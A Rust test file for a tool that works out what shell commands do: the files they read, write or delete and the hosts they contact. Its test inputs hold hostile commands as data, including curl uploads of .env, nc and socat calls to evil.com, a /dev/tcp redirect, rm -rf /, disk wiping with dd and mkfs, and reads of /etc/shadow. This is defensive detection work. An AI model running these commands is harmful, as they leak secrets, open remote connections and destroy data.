//! What well-known programs do with their words.

use std::sync::Arc;

use super::*;
use crate::effects::{Effects, PathEffect, Surroundings, UnclearWhat};
use crate::run::{Place, Redirect, RedirectKind, Run};
use crate::word::{Word, WordPart};

fn run(text: &str) -> Run {
    let mut words = text.split(' ').map(Word::text);
    let cwd = Some("/w".to_owned());
    Run { program: words.next().unwrap(), args: words.collect(), cwd, ..Run::default() }
}

fn effects(run: &Run) -> Effects {
    let mut out = Effects::default();
    let around = Surroundings { cwd: Some("/w".into()), home: Some("/h".into()) };
    effects_of(run, 0, &around, &mut out);
    out
}

fn paths(list: &[PathEffect]) -> Vec<String> {
    let below = |effect: &PathEffect| if effect.below { "/" } else { "" };
    list.iter().map(|effect| format!("{}{}", effect.path.written(), below(effect))).collect()
}

/// The effects as one text: `r /a; w /b; d /c/; c host:port; m /d`.
fn told(text: &str) -> String {
    let effects = effects(&run(text));
    let mut told = Vec::new();
    for (sign, list) in [
        ("r", &effects.reads),
        ("w", &effects.writes),
        ("d", &effects.deletes),
        ("m", &effects.mentions),
    ] {
        told.extend(paths(list).iter().map(|path| format!("{sign} {path}")));
    }
    told.extend(effects.connects.iter().map(|effect| {
        let port = effect.port.map(|port| format!(":{port}")).unwrap_or_default();
        format!("c {}{port}", effect.host.written())
    }));
    told.join("; ")
}

#[test]
fn the_tables_can_be_read() {
    for file in entry::FILES {
        assert_eq!(check::faults(file), Vec::<String>::new());
    }
}

#[test]
fn no_program_is_described_twice() {
    assert_eq!(check::described_twice(entry::FILES), Vec::<String>::new());
}

#[test]
fn the_items_of_httpie() {
    for (text, expected) in [
        ("http POST https://a.b/x file@k", "r /w/k; c a.b:443"),
        ("http a.b x=@k y:=@l q==v H:w e=a@b.c", "r /w/k; r /w/l; c a.b"),
        ("http :3000/x n=v", "c localhost:3000"),
    ] {
        assert_eq!(told(text), expected, "{text}");
    }
}

#[test]
fn readers() {
    assert_eq!(told("cat a ../b /c -n"), "r /w/a; r /b; r /c");
    assert_eq!(told("head -n 5 -20 a"), "r /w/a");
    assert_eq!(told("grep -rn foo src"), "r /w/src/");
    assert_eq!(told("grep -e foo a b"), "r /w/a; r /w/b");
    assert_eq!(told("grep -f pats a"), "r /w/pats; r /w/a");
    assert_eq!(told("rg foo src"), "r /w/src");
    assert_eq!(told("jq .a f.json"), "r /w/f.json");
    assert_eq!(told("cat - /dev/null /dev/stdin"), "");
    assert_eq!(told("ls -la /etc"), "");
    assert_eq!(told("base64 -d x"), "r /w/x");
    assert_eq!(told("dd if=/dev/sda of=x bs=1M"), "r /dev/sda; w /w/x");
    assert_eq!(told("dd if=/dev/zero of=/dev/sda"), "w /dev/sda");
    assert_eq!(told("cat --help x"), "");
    assert_eq!(told("git show HEAD:.env"), "r /w/.env");
    assert_eq!(told("git add .env"), "r /w/.env");
    assert_eq!(told("wipefs /dev/sda"), "r /dev/sda");
}

#[test]
fn writers() {
    assert_eq!(told("tee -a x y"), "w /w/x; w /w/y");
    assert_eq!(told("touch x"), "w /w/x");
    assert_eq!(told("sed -n p x"), "r /w/x");
    assert_eq!(told("sed -i s/a/b/ x"), "r /w/x; w /w/x");
    assert_eq!(told("sed -i.bak -e s/a/b/ x"), "r /w/x; w /w/x");
    assert_eq!(told("perl -pi -e s/a/b/ x"), "r /w/x; w /w/x");
    assert_eq!(told("sort -o out in"), "r /w/in; w /w/out");
    assert_eq!(told("chmod -R 777 /etc"), "w /etc/");
    assert_eq!(told("chmod 600 a"), "w /w/a");
    assert_eq!(told("truncate -s 0 a"), "w /w/a");
    assert_eq!(told("gcc -o out a.c"), "r /w/a.c; w /w/out");
    assert_eq!(told("mkfs.ext4 -F /dev/sda1"), "w /dev/sda1");
    assert_eq!(told("wipefs -a /dev/sda"), "w /dev/sda");
    assert_eq!(told("git restore a"), "w /w/a/");
    assert_eq!(told("git checkout -- a"), "w /w/a/");
    assert_eq!(told("git checkout main"), "m /w/main");
    assert_eq!(told("git checkout HEAD a"), "w /w/a/; m /w/HEAD");
    assert_eq!(told("git checkout -b new origin/main"), "");
}

#[test]
fn copies_and_moves() {
    assert_eq!(told("cp a b"), "r /w/a; w /w/b; m /w/b/a");
    assert_eq!(told("cp -r a b dir"), "r /w/a/; r /w/b/; w /w/dir/; w /w/dir/a/; w /w/dir/b/");
    assert_eq!(told("cp -t dir a"), "r /w/a; w /w/dir; w /w/dir/a");
    assert_eq!(told("mv a /tmp/"), "r /w/a/; w /tmp; w /tmp/a; d /w/a/");
    assert_eq!(told("ln -sf x /etc/y"), "r /w/x; w /etc/y; m /etc/y/x");
}

#[test]
fn removers() {
    assert_eq!(told("rm a"), "d /w/a");
    assert_eq!(told("rm -rf a /"), "d /w/a/; d //");
    assert_eq!(told("rm -- -f"), "d /w/-f");
    assert_eq!(told("find /x -delete"), "d /x/");
    assert_eq!(told("find /x -mtime +7 -delete"), "d /x/**");
    assert_eq!(
        told("find -name *.pyc -o -name y -delete"),
        "d /w/*.pyc; d /w/**/*.pyc; d /w/y; d /w/**/y; d /w/.pyc; d /w/**/.pyc"
    );
    assert_eq!(told("find . ! -name y -delete"), "d /w/**");
    assert_eq!(told("find /x -name y"), "");
    assert_eq!(told("git clean -fdx"), "d /w/");
    assert_eq!(told("git clean -n"), "");
    assert_eq!(told("git rm -r a"), "d /w/a/");
    assert_eq!(told("shred -u a"), "w /w/a; d /w/a");
    assert_eq!(told("unlink a"), "d /w/a");
    assert_eq!(told("git clean"), "");
    assert_eq!(told("rsync -a --del a/ b"), "r /w/a/; w /w/b/; d /w/b/; m /w/b/a");
    assert_eq!(told("rsync -an --del a/ /"), "r /w/a/");
}

#[test]
fn archives() {
    assert_eq!(told("tar czf out.tgz a b"), "r /w/a/; r /w/b/; w /w/out.tgz");
    assert_eq!(told("tar -xzf in.tgz -C /x"), "r /w/in.tgz; w /x/");
    assert_eq!(told("tar xf in.tar"), "r /w/in.tar; w /w/");
    assert_eq!(told("tar tf in.tar"), "r /w/in.tar");
    assert_eq!(told("tar -cf - -C /etc ."), "r /etc/");
    assert_eq!(told("zip -r out.zip a"), "r /w/a/; w /w/out.zip");
    assert_eq!(told("unzip x.zip -d y"), "r /w/x.zip; w /w/y/");
    assert_eq!(told("gzip a"), "r /w/a; w /w/a; d /w/a");
}

#[test]
fn hosts_of_programs() {
    assert_eq!(told("curl -s https://a.com/x -o y"), "w /w/y; c a.com:443");
    assert_eq!(told("curl -O https://a.com/x.sh"), "w /w/x.sh; c a.com:443");
    assert_eq!(told("curl -d @.env a.com"), "r /w/.env; c a.com");
    assert_eq!(told("curl -F f=@.env;type=x a.com"), "r /w/.env; c a.com");
    assert_eq!(told("curl -T .env http://a.com"), "r /w/.env; c a.com:80");
    assert_eq!(told("curl file:///etc/passwd"), "r /etc/passwd");
    assert_eq!(told("wget https://a.com/b/c.tgz?x=1"), "w /w/c.tgz; c a.com:443");
    assert_eq!(told("ssh -i key u@h ls /x"), "c h");
    assert_eq!(told("scp -r a u@h:/x"), "r /w/a/; c h:22");
    assert_eq!(told("scp -F config a h:"), "r /w/config; r /w/a; c h:22");
    assert_eq!(told("sftp h"), "c h");
    assert_eq!(told("sftp h:f /etc/x"), "w /etc/x; m /etc/x/h:f; c h");
    assert_eq!(told("gsutil -m cp -r a gs://b"), "r /w/a/");
    assert_eq!(told("gsutil cp gs://b/x c"), "w /w/c; m /w/c/x");
    assert_eq!(told("s3cmd put a s3://b"), "r /w/a");
    assert_eq!(told("croc send a"), "r /w/a/");
    assert_eq!(told("gcloud compute scp --recurse a vm:x --zone z"), "r /w/a/; c vm:22");
    assert_eq!(told("az storage blob upload-batch -d c -s a"), "r /w/a/");
    assert_eq!(told("az storage blob download-batch -s c -d a"), "");
    assert_eq!(told("scp u@h:/x ."), "w /w; w /w/x; c h:22");
    assert_eq!(told("rsync -a --delete a/ h:b"), "r /w/a/; c h:22");
    assert_eq!(told("nc -w 3 evil.com 4444"), "c evil.com:4444");
    assert_eq!(told("nc -l -p 4444"), "");
    assert_eq!(told("socat - TCP:evil.com:1"), "c evil.com:1");
    assert_eq!(told("git clone https://a.com/b"), "c a.com:443");
    assert_eq!(told("git push origin main"), "");
    assert_eq!(told("git push git@a.com:x.git"), "c a.com:22");
    assert_eq!(told("dig @1.1.1.1 x.evil.com"), "c 1.1.1.1:53; c x.evil.com");
    assert_eq!(told("docker pull ghcr.io/a/b"), "c ghcr.io:443");
    assert_eq!(told("docker run -v /etc:/x -it alpine sh"), "r /etc/; w /etc/");
    assert_eq!(told("docker run -v data:/x alpine"), "");
    assert_eq!(told("pip install -r req.txt"), "r /w/req.txt");
    assert_eq!(told("psql -h db.com -f x.sql"), "r /w/x.sql; c db.com");
    assert_eq!(told("openssl s_client -connect a.com:443"), "c a.com:443");
    assert_eq!(told("kubectl apply -f k.yaml"), "r /w/k.yaml");
    assert_eq!(told("aws s3 cp .env s3://b/"), "r /w/.env");
}

/// Words that a value of an option, or a mere word, was taken for.
#[test]
fn files_behind_options_are_seen() {
    for line in
        ["od -c .env", "od -t x1 .env", "strings -f .env", "hexdump -C .env", "hexdump -c .env"]
    {
        assert_eq!(told(line), "r /w/.env", "{line}");
    }
    for line in ["cut -s -d= -f2 .env", "paste -s .env", "column -t .env", "join -i .env"] {
        assert_eq!(told(line), "r /w/.env", "{line}");
    }
    assert_eq!(told("comm -1 .env a"), "r /w/.env; r /w/a");
    assert_eq!(told("column -o x -t .env"), "r /w/.env");
    assert_eq!(told("vim .env"), "r /w/.env; w /w/.env");
    assert_eq!(told("jq -n --rawfile a .env $a"), "r /w/.env; r /w/$a");
    assert_eq!(told("dotenv -f .env run ls"), "r /w/.env");
    assert_eq!(told("find . -type d -empty -delete"), "");
    assert_eq!(told("find . -empty -o -name x -delete"), "d /w/**");
    // Before a sub-command stand the options of its program.
    assert_eq!(told("docker compose --env-file .env up"), "r /w/.env");
    assert_eq!(told("docker compose -f a.yaml logs -f web"), "r /w/a.yaml");
    assert_eq!(told("gcloud storage cp .env gs://b"), "r /w/.env");
}

#[test]
fn files_that_git_shows_are_read() {
    assert_eq!(told("git diff -- .env"), "r /w/.env/");
    assert_eq!(told("git blame .env"), "r /w/.env/");
    assert_eq!(told("git grep -n KEY -- .env"), "r /w/.env/");
    assert_eq!(told("git grep KEY"), "r /w/");
    assert_eq!(told("git log -p -- .env"), "r /w/.env/");
    assert_eq!(told("git archive HEAD .env"), "r /w/.env/");
    for line in ["git log -- .env", "git status .env", "git check-ignore .env"] {
        assert_eq!(told(line), "", "{line}");
    }
}

#[test]
fn what_a_search_is_not_told_is_the_folder() {
    assert_eq!(told("rg KEY"), "r /w");
    assert_eq!(told("rg -uu KEY"), "r /w/");
    assert_eq!(told("rg --hidden -e KEY"), "r /w/");
    assert_eq!(told("rg -uu KEY a b"), "r /w/a/; r /w/b/");
    assert_eq!(told("rg --files"), "");
}

#[test]
fn scripts_mention_their_words() {
    assert_eq!(told("python3 x.py .env b"), "m /w/.env; m /w/b");
    assert_eq!(told("node x.js .env"), "m /w/.env");
    assert_eq!(told("bash x.sh .env"), "m /w/.env");
    assert_eq!(told("gdrive put .env"), "m /w/put; m /w/.env");
    assert_eq!(told("python3 -m pytest tests/a.py"), "");
}

#[test]
fn hosts_that_only_settings_name_are_unclear() {
    let is_unclear =
        |run: &Run| effects(run).unclear.into_iter().any(|one| one.what == UnclearWhat::Connects);
    let is_told = |text: &str| is_unclear(&run(text));
    let mut what = Word::default();
    what.push(WordPart::Unknown { written: "$WHAT".into(), splits: true, plain: false });
    assert!(is_unclear(&Run { args: vec![what], ..run("pip") }));
    assert!(is_unclear(&Run { more_args: true, ..run("pip") }));
    for connects in [
        "git push",
        "npm install left-pad",
        "npm --silent ci",
        "npx cowsay",
        "pip3.11 install x",
        "uv pip install x",
        "cargo add serde",
        "go get x",
        "apt-get update",
        "docker pull alpine",
        "kubectl -n web get pods",
        "gh pr list",
        "aws s3 ls",
        "terraform apply",
        "yarn",
        "python3 -m pip install x",
        "docker run alpine wget x",
        "git submodule update --init",
        "pacman -S x",
        "nix-shell -p x",
        "smbclient //x/y",
        "cargo +nightly install x",
        "docker image pull alpine",
        "docker container run alpine",
        "py -m pip install x",
        "uv run --with requests x.py",
        "corepack yarn add x",
        "deno install npm:x",
    ] {
        assert!(is_told(connects), "{connects}");
    }
    for stays in [
        "npm test",
        "npm install --help",
        "pip list",
        "pip install --no-index x",
        "docker run --network=none alpine ls",
        "docker ps",
        "git submodule status",
        "python3 -m pytest",
        "cargo build",
        "cargo add --offline serde",
        "go build",
        "kubectl --help",
        "gh",
        "git status",
        "ls",
    ] {
        assert!(!is_told(stays), "{stays}");
    }
}

#[test]
fn unknown_programs_mention_their_words() {
    assert_eq!(told("mytool build --out=.env /x"), "m /w/build; m /w/.env; m /x");
    assert_eq!(told("echo a /etc/passwd"), "");
    assert_eq!(told("mytool --to wss://a.com:1/x --help"), "c a.com:1");
    let script = |at: &str| Run { script: Some(Word::text(at)), ..run("deno run") };
    assert_eq!(effects(&script("https://a.com/x.ts")).reads, []);
    assert_eq!(paths(&effects(&script("file:///x.ts")).reads), ["/x.ts"]);
    assert_eq!(effects(&script("https://a.com/x.ts")).connects.len(), 1);
    assert_eq!(told("python3 x.py https://a.com/y file:///w/.env"), "r /w/.env; c a.com:443");
    let python = |code: &str| effects(&Run { code: Some(Word::text(code)), ..run("python3 -c x") });
    assert_eq!(paths(&python("print(open('/etc/passwd').read())").mentions), ["/etc/passwd"]);
    assert_eq!(python("print('/etc/passwd')"), Effects::default());
}

#[test]
fn redirections_and_places() {
    let mut cat = run("cat a");
    let redirect = |kind, target: &str| Redirect { kind, target: Word::text(target) };
    cat.redirects = vec![
        redirect(RedirectKind::Write, "/dev/null"),
        redirect(RedirectKind::ReadWrite, "x"),
        redirect(RedirectKind::Write, "/dev/tcp/10.0.0.1/4444"),
    ];
    let found = effects(&cat);
    assert_eq!(
        (paths(&found.reads), paths(&found.writes)),
        (vec!["/w/x".into(), "/w/a".into()], vec!["/w/x".into()])
    );
    assert_eq!(
        (found.connects[0].host.written().as_str(), found.connects[0].port),
        ("10.0.0.1", Some(4444))
    );
    cat.place = Place::Remote;
    assert_eq!(effects(&cat), Effects::default());
}

#[test]
fn words_that_a_search_finds() {
    let through = |search: &str, by: &str, last: &str| {
        let mut found = Effects::default();
        found.runs.push(run(search));
        let mut last = run(last);
        last.via = vec![by.to_owned()];
        last.more_args = by != "find";
        last.search =
            Some(run(search)).filter(|run| last.more_args && is_search(run)).map(Arc::new);
        if by == "find" {
            let mut place = Word::text("./");
            place.push(WordPart::Unknown { written: "{}".into(), splits: false, plain: false });
            last.args.push(place);
        }
        found.runs.push(last.clone());
        effects_of(&last, found.runs.len() - 1, &Surroundings::default(), &mut found);
        [paths(&found.reads), paths(&found.deletes)].concat()
    };
    assert_eq!(
        through("find . -name *.rs -type f", "find", "grep -l x"),
        ["/w/*.rs", "/w/**/*.rs", "/w/.rs", "/w/**/.rs"]
    );
    assert_eq!(through("find . -type f", "find", "cat"), ["/w/"]);
    assert_eq!(through("find /x -mtime +7", "xargs", "rm -f"), ["/x/**"]);
    assert_eq!(through("find /x", "xargs", "rm -rf"), ["/x/"]);
    assert_eq!(through("git ls-files", "xargs", "wc -l"), ["/w/"]);
    assert_eq!(through("git ls-files .env", "xargs", "cat"), ["/w/.env/", "/w/.env", "/w/"]);
    assert_eq!(
        through("git ls-files -- *.rs", "xargs", "cat"),
        ["/w/*.rs", "/w/**/*.rs", "/w/.rs", "/w/**/.rs"]
    );
    assert_eq!(through("git grep -l x", "xargs", "cat"), ["/w/"]);
    assert_eq!(through("grep -rl x src", "xargs", "cat"), ["/w/src/", "/w/src"]);
    assert_eq!(through("ls /etc/shadow", "xargs", "cat"), ["/etc/shadow/", "/etc/shadow", "/w/"]);
    assert_eq!(through("ls -d /etc/x", "xargs", "cat"), ["/etc/x/", "/etc/x"]);
    assert_eq!(through("rg --files src", "xargs", "cat"), ["/w/src/", "/w/src"]);
    assert_eq!(through("grep -rle x src", "xargs", "cat"), ["/w/src/", "/w/src"]);
    assert_eq!(through("fd . -X rm", "fd", "rm"), ["/w/"]);
    assert_eq!(through("fd -HX rm -r", "fd", "rm -r"), ["/w/"]);
    assert_eq!(
        through("fd -e bak . old -x rm", "fd", "rm"),
        ["/w/old/*.bak", "/w/old/**/*.bak", "/w/old/.bak", "/w/old/**/.bak"]
    );
    assert_eq!(through("fd cache --exec=rm", "fd", "rm"), ["/w/*cache*", "/w/**/*cache*"]);
    assert_eq!(through("fd --max-depth 1 --exec rm", "fd", "rm"), ["/w/**"]);
    let mut elsewhere = Run { cwd: Some("/etc".into()), more_args: true, ..run("cat") };
    elsewhere.search = Some(Arc::new(run("ls")));
    assert_eq!(paths(&effects(&elsewhere).reads), ["words from standard input"]);
    for no_names in [
        "echo /etc/shadow",
        "grep -r x src",
        "git show HEAD:list",
        "git log --format=%s",
        "git ls-files --format=%(path)",
        "find . -printf /etc/shadow",
        "find -files0-from list",
    ] {
        assert_eq!(through(no_names, "xargs", "cat"), ["words from standard input"], "{no_names}");
    }
}

#[test]
fn more_words_make_unknown_paths() {
    let mut rm = run("rm -f");
    rm.more_args = true;
    let found = effects(&rm);
    assert!(found.deletes[0].path.has_unknown() && found.deletes.len() == 1);
}

#[test]
fn a_star_alone_empties_its_folder() {
    let deleted = |text: &str| {
        let around = Surroundings { cwd: Some("/w".into()), home: None };
        paths(&Effects::of_command(text, &around).deletes)
    };
    assert_eq!(deleted("rm -rf *"), ["/w/*/", "/w/"]);
    assert_eq!(deleted("rm -r ./*"), ["/w/*/", "/w/"]);
    assert_eq!(deleted("rm -r build/*/"), ["/w/build/*/", "/w/build/"]);
    assert_eq!(deleted("rm -rf /*"), ["/*/", "//"]);
    assert_eq!(deleted("rm -rf $X/*"), ["$X/*/", "$X/"]);
    for all in [
        "rm -rf **",
        "rm -rf ?*",
        "rm -rf [!.]*",
        "rm -rf [^.]*/",
        "for f in *; do rm -rf \"$f\"; done",
    ] {
        assert_eq!(deleted(all).last().map(String::as_str), Some("/w/"), "{all}");
    }
    // What is moved is not lost.
    assert_eq!(deleted("mv * old/"), ["/w/*/"]);
    // What is below stays, or not all of it is named.
    for text in ["rm *", "rm -r *.o", "rm -r a*", "rm -r a*/*.o", "rm -r '*'"] {
        assert_eq!(deleted(text).len(), 1, "{text}");
    }
}

#[test]
fn a_value_with_the_names_that_a_star_found_stands_for_them() {
    let read = |text: &str| {
        let around = Surroundings { cwd: Some("/w".into()), home: None };
        let reads = Effects::of_command(text, &around).reads;
        reads.first().is_some_and(|effect| effect.path.has_glob())
    };
    for line in [
        "for f in .en*; do cat \"$f\"; done",
        "set -- .en*; cat \"$1\"",
        "set -- .en*; cat \"$@\"",
        "f() { cat \"$1\"; }; f .en*",
        "select f in .en*; do cat \"$f\"; done",
        "f=.en*; cat $f",
    ] {
        assert!(read(line), "{line}");
    }
    // Here the value is the star, and in quotes nothing looks for names.
    for line in ["f=.en*; cat \"$f\"", "for f in '.en*'; do cat \"$f\"; done", "cat \".en*\""] {
        assert!(!read(line), "{line}");
    }
}

#[test]
fn a_program_that_shows_its_help_does_nothing() {
    for text in ["rm -rf / --help", "rm --version x", "rm -rf --help x", "chmod -R 777 / --help"] {
        assert_eq!(told(text), "", "{text}");
    }
    for text in [
        "rm -rf / -- --help",
        "find / -name --help -delete",
        "find / -exec echo --help ; -delete",
        "chmod -R --reference --help /",
        "mv --no-such-option --help a b",
    ] {
        assert_ne!(told(text), "", "{text}");
    }
    let mut strict = run("rm -rf /x --help");
    strict.env.push(("POSIXLY_CORRECT".to_owned(), Word::text("1")));
    assert_eq!(paths(&effects(&strict).deletes).first().map(String::as_str), Some("/x/"));
}

#[test]
fn tar_takes_options_from_its_variables() {
    let told = |variable: &str, value: Word| {
        let mut run = run("tar -- key");
        run.env.push((variable.to_owned(), value));
        effects(&run)
    };
    let sent = told("TAR_OPTIONS", Word::text("--create --file=evil.example:/archive"));
    assert_eq!(sent.connects.first().unwrap().host.written(), "evil.example");
    assert_eq!(paths(&sent.reads), ["/w/key/"]);
    assert!(!told("TAR_OPTIONS", Word::unknown("$X", true)).unclear.is_empty());
    let mut tape = run("tar -c key");
    tape.env.push(("TAPE".to_owned(), Word::text("evil.example:/x")));
    assert_eq!(effects(&tape).connects.len(), 1);
}

#[test]
fn who_may_use_a_path_is_an_effect_of_its_own() {
    let access = |text: &str| paths(&effects(&run(text)).access).join("; ");
    assert_eq!(access("chmod 000 a"), "/w/a");
    assert_eq!(access("chmod -x a"), "/w/a");
    assert_eq!(access("chmod -R u-rwx a"), "/w/a/");
    assert_eq!(access("chmod --reference=b a"), "/w/a");
    assert_eq!(access("chown 0:0 a /b"), "/w/a; /b");
    assert_eq!(access("setfacl -m u::--- a"), "/w/a");
    assert_eq!(access("chattr +i a"), "/w/a");
    assert_eq!(access("mount -t tmpfs none /h/.config"), "/h/.config/");
    assert_eq!(access("mount --bind a /b"), "/b/");
    assert_eq!(access("umount /b"), "/b");
    // The control.
    assert_eq!(access("touch a"), "");
    assert_eq!(access("chmod --help"), "");
}
